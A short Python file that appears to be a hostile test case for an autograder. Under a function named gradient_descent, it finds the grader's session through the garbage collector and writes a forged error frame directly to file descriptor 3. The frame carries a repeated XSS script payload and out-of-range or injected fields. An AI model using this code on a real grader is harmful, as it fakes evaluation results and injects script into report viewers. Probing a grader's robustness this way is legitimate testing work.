"""A report of an exception with huge, negative and hostile entries.

Tries: to break the sentences that are made from it, or to stand in them
Must: error, breach
Detail: of its own making|out of turn
"""

import gc
import os

from autograder.codec import encode


def number():
    """The number of the request at hand, from the loop that serves them."""
    return next(it for it in gc.get_objects() if type(it).__name__ == "Session")._request


def send(frame):
    while frame:
        frame = frame[os.write(3, frame) :]


def gradient_descent(grad, theta0, eta, n_steps):
    report = {"type": "<script>alert(1)</script>" * 1000, "cell": -1, "line": 10**17, "__class__": "x"}
    send(encode(["raised", number(), report]))
    return 0
